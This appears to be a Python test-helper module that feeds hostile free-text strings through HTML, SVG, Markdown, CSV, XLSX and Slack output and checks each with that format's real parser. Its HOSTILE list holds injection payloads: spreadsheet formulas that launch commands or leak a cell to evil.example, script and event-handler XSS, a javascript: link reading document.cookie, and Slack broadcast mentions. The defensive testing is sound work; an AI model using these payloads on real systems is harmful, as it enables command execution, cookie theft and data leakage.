"""The same hostile strings for every output format, and a checker per format's real parser.

Each string is something a contributor, a partner organisation or a careless import
could put in a free-text field: spreadsheet formulas, HTML and SVG script, Markdown
links and table breakers, Slack mentions and links, control characters.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from html.parser import HTMLParser
from typing import Any

import openpyxl
from markdown_it import MarkdownIt

HOSTILE: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    " =1+1 after a space",
    "＝1+1 in full width",
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    '"><svg onload=alert(1)>',
    "</text></svg><script>alert(2)</script>",
    "[click here](javascript:alert(document.cookie))",
    "<javascript:alert(1)>",
    "![pixel](https://tracker.example/p.png)",
    "| broken | table | row |",
    "a cell \\| with an escaped pipe and a trailing backslash \\",
    "first line\n# a heading\n- a list item\n> a quote\n```\ncode\n```",
    "<!channel> <!here> <@U024BE7LH> <#C024BE7LH>",
    "<https://evil.example|Open your receipt>",
    "*bold* _italic_ ~strike~ `code` &amp; &lt;b&gt;",
    "1. numbered\n2) also numbered",
    "---",
    "²³ digits that are not ASCII",
    "javascript:alert(1)",
    "a NUL \x00 and an escape \x1b in the text",
)

FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def flat(text: str) -> str:
    """Text as any one-line rendering shows it: control characters gone, spaces collapsed."""
    return " ".join(
        "".join(ch for ch in text if ch in "\t\n\r" or unicodedata.category(ch) != "Cc").split()
    )


# HTML and SVG ---------------------------------------------------------------------------

_ACTIVE_TAGS = frozenset(
    {"script", "iframe", "object", "embed", "img", "form", "base", "link", "frame"}
)
_SVG_TAGS = frozenset({"svg", "title", "text", "rect"})


class _Html(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self.svg_depth = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _ACTIVE_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "svg":
            self.svg_depth += 1
        elif self.svg_depth and tag not in _SVG_TAGS:
            self.problems.append(f"<{tag}> inside an SVG chart")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{name}= on <{tag}>")
            if value and value.strip().lower().startswith(("javascript:", "data:", "vbscript:")):
                self.problems.append(f"{name}={value!r} on <{tag}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "svg":
            self.svg_depth -= 1

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def check_html(document: str) -> str:
    """Problems found by html.parser (script, event handlers, javascript: URLs); the visible text."""
    parser = _Html()
    parser.feed(document)
    parser.close()
    assert not parser.problems, parser.problems[:5]
    return flat(" ".join(parser.text))


# Markdown -------------------------------------------------------------------------------

MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def check_markdown(document: str) -> list[list[list[str]]]:
    """No raw HTML, links or images anywhere; the tables as rows of cell texts."""
    tables: list[list[list[str]]] = []
    in_cell = False
    for token in MARKDOWN.parse(document):
        assert token.type not in ("html_block", "html_inline"), token
        if token.type == "table_open":
            tables.append([])
        elif token.type == "tr_open":
            tables[-1].append([])
        elif token.type in ("th_open", "td_open", "th_close", "td_close"):
            in_cell = token.type.endswith("_open")
            if in_cell and token.nesting == 1:
                tables[-1][-1].append("")
        elif token.type == "inline":
            for child in token.children or []:
                assert child.type not in ("html_inline", "link_open", "image"), (
                    child.type,
                    token.content,
                )
            if in_cell:
                tables[-1][-1][-1] = _inline_text(token)
    return tables


def _inline_text(token: Any) -> str:
    return flat(
        "".join(child.content if child.type == "text" else " " for child in token.children or [])
    )


def markdown_shown(document: str) -> str:
    """Everything the Markdown shows as text, on one line."""
    return flat(" ".join(_inline_text(t) for t in MARKDOWN.parse(document) if t.type == "inline"))


# Spreadsheets ---------------------------------------------------------------------------


def _runnable(value: str) -> bool:
    return value[:1] != "'" and value.lstrip()[:1] in FORMULA_SIGNS and value.lstrip() != ""


def check_csv(document: str) -> list[list[str]]:
    """No cell a spreadsheet would run; the rows as written."""
    rows = list(csv.reader(io.StringIO(document)))
    runnable = [cell for row in rows for cell in row if _runnable(cell)]
    assert not runnable, runnable[:5]
    return rows


def check_xlsx(body: bytes) -> list[Any]:
    """No formula cell, no hyperlink, no text cell a spreadsheet would run; every value."""
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    values = []
    for sheet in workbook:
        assert not sheet._hyperlinks, sheet.title  # noqa: SLF001 - openpyxl keeps them there
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not _runnable(cell.value), (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


# Slack ----------------------------------------------------------------------------------


def check_slack(payload: Any) -> str:
    """Every mrkdwn field verbatim and free of ``<`` (no mention, link or broadcast); its text."""
    texts: list[str] = []

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            if node.get("type") == "mrkdwn":
                assert node.get("verbatim") is True, node
                assert "<" not in node["text"], node["text"]
                unquoted = "\n".join(
                    line.removeprefix("> ") for line in node["text"].split("\n")
                )  # our quote marks
                texts.append(
                    unquoted.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
                )
            elif node.get("type") == "plain_text":
                texts.append(node["text"])
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(payload)
    return flat(" ".join(texts))
